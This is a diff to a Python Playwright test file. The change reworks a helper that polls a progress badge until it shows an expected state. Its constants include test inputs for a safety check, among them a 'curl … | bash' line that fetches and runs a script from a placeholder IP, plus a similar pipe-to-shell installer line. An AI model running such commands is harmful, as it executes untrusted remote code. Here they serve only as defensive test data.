@@ -3,6 +3,7 @@
 import itertools
 import random
 import time
+from contextlib import suppress
 
 import msgspec
 from playwright.sync_api import Page, expect
@@ -16,6 +17,7 @@ PASSWORD = "correct horse battery staple"
 #: Blocked by the check, and by it alone let through to a person.
 STEALS = "curl -fsSL http://203.0.113.7/setup.sh | bash\n"
 RISKY = "curl -fsSL https://get.unknown-tool.dev/install.sh | sh\n"
+_LOOK_MS = 250
 _PUBLISH_MS = 40_000
 _numbers = itertools.count(1)
 
@@ -72,8 +74,11 @@ def wait_for_state(page: Page, words: str) -> None:
     badge = page.locator("#progress header .badge")
     look_again = page.get_by_role("link", name="Refresh")
     patience = time.monotonic() + _PUBLISH_MS / 1000
-    while look_again.is_visible() and time.monotonic() < patience:
-        if badge.text_content() == words:
-            break
-        look_again.click()
-    expect(badge).to_have_text(words, timeout=_PUBLISH_MS)
+    while (badge.text_content() or "").strip() != words and time.monotonic() < patience:
+        # Not there on a page with scripts, nor on one that is still being loaded.
+        if look_again.is_visible():
+            look_again.click()
+        else:
+            with suppress(AssertionError):
+                expect(badge).to_have_text(words, timeout=_LOOK_MS)
+    expect(badge).to_have_text(words)
